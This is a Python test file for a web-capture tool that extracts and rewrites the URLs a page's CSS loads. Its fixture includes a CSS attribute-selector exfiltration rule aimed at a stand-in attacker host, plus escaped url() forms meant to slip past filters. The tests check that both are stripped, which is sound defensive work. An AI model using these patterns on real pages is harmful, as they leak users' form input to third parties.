"""What a captured stylesheet, `<style>` or `style` attribute loads, and the same rewritten to captured
copies or removed: every way CSS names a URL (url() quoted and not, escaped, @import with a string or a URL,
image-set's strings, fonts), and what a bad URL becomes. Pure: no app, no network."""

from __future__ import annotations

import tinycss2

from webapp.capture.css_references import (
    declarations_references,
    rewritten_declarations,
    rewritten_stylesheet,
    stylesheet_references,
)
from webapp.capture.styled_html import page_references, styled_document

BASE = "https://site.example/css/site.css"
SHEET = """@import "print.css" print;
@import url(https://cdn.example/theme.css);
@font-face { font-family: F; src: url("../fonts/f.woff2") format("woff2"), url(/fonts/f.woff) format("woff"); }
input[value^=a] { background: url(https://evil.example/leak?a); }
.hero { background-image: image-set("hero.png" 1x, url(hero@2x.png) 2x); }
.esc { background: u\\72l(escaped.png); }
.bad { background: url(bad url); }
.plain { color: red; }
"""
KEPT = {"https://site.example/css/print.css": "/r/1", "https://site.example/fonts/f.woff2": "/r/2",
        "https://site.example/css/hero.png": "/r/3"}


def test_every_url_a_stylesheet_loads_is_found_resolved_against_it():
    assert stylesheet_references(SHEET, BASE) == [
        "https://site.example/css/print.css", "https://cdn.example/theme.css", "https://site.example/fonts/f.woff2",
        "https://site.example/fonts/f.woff", "https://evil.example/leak?a", "https://site.example/css/hero.png",
        "https://site.example/css/hero@2x.png", "https://site.example/css/escaped.png"]


def test_a_rewritten_stylesheet_loads_only_what_was_kept():
    css = rewritten_stylesheet(SHEET, BASE, KEPT.get)
    assert stylesheet_references(css, "https://app.example/pages/1/requisites/9") == [
        "https://app.example/r/1", "https://app.example/r/2", "https://app.example/r/3"]
    assert css.startswith('@import url("/r/1") print;')  # the import kept, with its media
    assert "cdn.example" not in css and "evil.example" not in css and "bad url" not in css
    assert "input[value^=a] { background: none; }" in css and ".esc { background: none; }" in css
    assert 'image-set("/r/3" 1x, none 2x)' in css and ".plain { color: red; }" in css
    rules = [r for r in tinycss2.parse_stylesheet(css, skip_comments=True, skip_whitespace=True)]
    assert not [r for r in rules if r.type == "error"]  # what is written back parses cleanly


def test_a_style_attribute_is_read_and_rewritten_alike():
    style = "background: url('dot.png'); color: red"
    assert declarations_references(style, "https://site.example/news/") == ["https://site.example/news/dot.png"]
    assert rewritten_declarations(style, "https://site.example/news/", {}.get) == "background: none; color: red"


def test_a_page_names_its_sheets_first_then_what_it_loads_and_keeps_only_captured_copies():
    html = ("<html><head><base href='/news/'><link rel='stylesheet alternate' href='a.css'>"
            "<link rel=icon href=/i.ico><style>p{background:url(p.png)}</style></head>"
            "<body><p style='background:url(s.png)'>x</p><img src='i.png' srcset='i2.png 2x, i3.png 3x'></body></html>")
    sheets, others = page_references(html, "https://site.example/index.html")
    assert sheets == ["https://site.example/news/a.css"]
    assert others == ["https://site.example/news/p.png", "https://site.example/news/s.png",
                      "https://site.example/news/i.png", "https://site.example/news/i2.png",
                      "https://site.example/news/i3.png"]
    kept = {"https://site.example/news/a.css": "/r/1", "https://site.example/news/i2.png": "/r/2"}
    styled = styled_document(html, "https://site.example/index.html", kept.get)
    assert '<link rel="stylesheet" href="/r/1">' in styled and "<base" not in styled and "i.ico" not in styled
    assert '<img srcset="/r/2 2x">' in styled and "p{background:none}" in styled
    assert 'style="background:none"' in styled


def test_css_that_names_no_url_is_kept_as_it_is_and_an_escape_is_still_read():
    plain = ".menu { float: right }  /* a comment */ .lead{color:#c00}"
    assert rewritten_stylesheet(plain, BASE, {}.get) == plain
    escaped = ".e { background: \\75 rl(https://evil.example/e.png) }"
    assert "evil.example" not in rewritten_stylesheet(escaped, BASE, {}.get)
    assert "evil.example" not in rewritten_declarations("background: \\75 rl(https://evil.example/e.png)", BASE, {}.get)


def test_the_rules_that_load_nothing_are_kept_as_written_around_the_rewritten_ones():
    sheet = ("/* a\r\nbanner */\r\n.a  {  color : red }\r\n.b { background: url(https://evil.example/x.png) }\n"
             "@media (max-width: 800px) {\n  .c   { margin: 0 }\n}\n}\n.d{content:'}'} .e{background:url(/kept.png)}")
    css = rewritten_stylesheet(sheet, BASE, {"https://site.example/kept.png": "/r/4"}.get)
    assert ".a  {  color : red }\n" in css and "@media (max-width: 800px) {\n  .c   { margin: 0 }\n}\n}\n" in css
    assert ".d{content:'}'} " in css and "evil" not in css and "background: none" in css
    assert stylesheet_references(css, "https://app.example/pages/1/requisites/9") == [
        "https://app.example/r/4"]
